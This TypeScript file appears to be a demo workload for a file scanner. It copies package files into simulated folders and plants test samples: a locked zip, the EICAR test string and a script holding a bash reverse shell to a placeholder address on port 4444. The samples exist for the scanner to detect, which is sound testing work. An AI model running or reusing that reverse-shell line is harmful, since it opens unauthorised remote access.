// What happens in the demo's folders: copies of real files, now and then many at once, and a few that a scanner finds or cannot open.
import { copyFile, mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';

/** Packages whose files are copied: text, code, fonts and programs of ordinary sizes. */
const packages = ['typescript', 'react-dom', 'recharts', 'fastify', 'zod', 'lucide-react'];
const maxFilesAPackage = 400;
const atStart = 900;
const burst = 260;
const burstEveryMs = 14_000;
const trickleEveryMs = 900;
/** The demo stays small however long it runs. */
const keptBursts = 4;

/** In pieces, so that this file is none of them. */
const testFile = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const reverseShell = ['#!/bin/sh\nbash -i >& /dev', '/tcp/192.0.2.7/4444 0>&1\n'].join('');

export class DemoWorkload implements AsyncDisposable {
  readonly #home: string;
  readonly #sources: readonly string[];
  readonly #stopping = new AbortController();
  readonly #running: Promise<void>;
  #copied = 0;

  static async start(home: string): Promise<DemoWorkload> {
    const sources = (await Promise.all(packages.map(filesOf))).flat();
    const workload = new DemoWorkload(home, sources);
    return workload;
  }

  private constructor(home: string, sources: readonly string[]) {
    this.#home = home;
    this.#sources = sources;
    this.#running = this.#run().catch((error: unknown) => {
      if (!this.#stopping.signal.aborted) console.error('vedette: the demo stopped writing files:', error);
    });
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#stopping.abort();
    await this.#running;
  }

  async #run(): Promise<void> {
    const downloads = join(this.#home, 'Downloads');
    await this.#copy(join(this.#home, 'Documents', 'projects'), atStart);
    await writeFile(join(downloads, 'holiday-photos (locked).zip'), await lockedZip());
    await this.#pause(4000);
    await writeFile(join(downloads, 'invoice-2026-11.com'), testFile);
    await this.#pause(3000);
    await writeFile(join(downloads, 'install-helper.sh'), reverseShell);
    await Promise.all([this.#trickle(downloads), this.#bursts(join(this.#home, 'Documents', 'unpacked'))]);
  }

  async #trickle(folder: string): Promise<void> {
    for (;;) {
      await this.#copy(join(folder, 'mail'), 3);
      await this.#pause(trickleEveryMs);
    }
  }

  async #bursts(folder: string): Promise<void> {
    for (let number = 1; ; number += 1) {
      await this.#copy(join(folder, `archive-${number}`), burst);
      await rm(join(folder, `archive-${number - keptBursts}`), { recursive: true, force: true });
      await this.#pause(burstEveryMs);
    }
  }

  async #copy(folder: string, count: number): Promise<void> {
    await mkdir(folder, { recursive: true });
    for (let index = 0; index < count; index += 1) {
      this.#stopping.signal.throwIfAborted();
      const source = this.#sources[this.#copied % this.#sources.length];
      if (source === undefined) return;
      this.#copied += 1;
      await copyFile(source, join(folder, `${this.#copied}-${basename(source)}`));
    }
  }

  async #pause(ms: number): Promise<void> {
    await pause(ms, undefined, { signal: this.#stopping.signal });
  }
}

async function filesOf(name: string): Promise<readonly string[]> {
  const folder = join(import.meta.dirname, '..', 'node_modules', name);
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  return entries
    .filter((entry) => entry.isFile())
    .slice(0, maxFilesAPackage)
    .map((entry) => join(entry.parentPath, entry.name));
}

/** A scanner cannot look into it, and says so. */
async function lockedZip(): Promise<Uint8Array> {
  const zip = new ZipWriter(new Uint8ArrayWriter(), { password: 'holiday', zipCrypto: true });
  await zip.add('photos.txt', new TextReader('The sea, and the sea again.\n'.repeat(400)));
  return await zip.close();
}
